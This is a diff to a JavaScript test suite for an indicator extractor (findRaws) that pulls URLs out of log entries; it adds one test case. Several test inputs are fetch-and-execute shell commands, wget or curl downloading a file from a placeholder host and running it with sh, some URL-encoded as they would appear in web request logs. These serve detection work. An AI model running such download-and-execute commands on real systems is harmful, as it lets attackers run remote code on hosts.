@@ -138,6 +138,7 @@ describe('Finding indicators in log notations', () => {
     ]);
     assert.deepEqual(findRaws('cmd=wget+http://192.0.2.4:88/a.m+-O+/tmp/b;sh+b&x=/'), ['http://192.0.2.4:88/a.m']);
     assert.deepEqual(findRaws('?x=curl%20-s%20http://a-site.com/a%20-o%20b%3Bsh'), ['http://a-site.com/a']);
+    assert.deepEqual(findRaws('curl -s http://a-site.com/a.sh.;sh'), ['http://a-site.com/a.sh']);
     assert.deepEqual(findRaws('http://192.0.2.9/?wget+http://192.0.2.4/a;sh+a'), [
       'http://192.0.2.9/?wget+http://192.0.2.4/a;sh+a',
     ]);
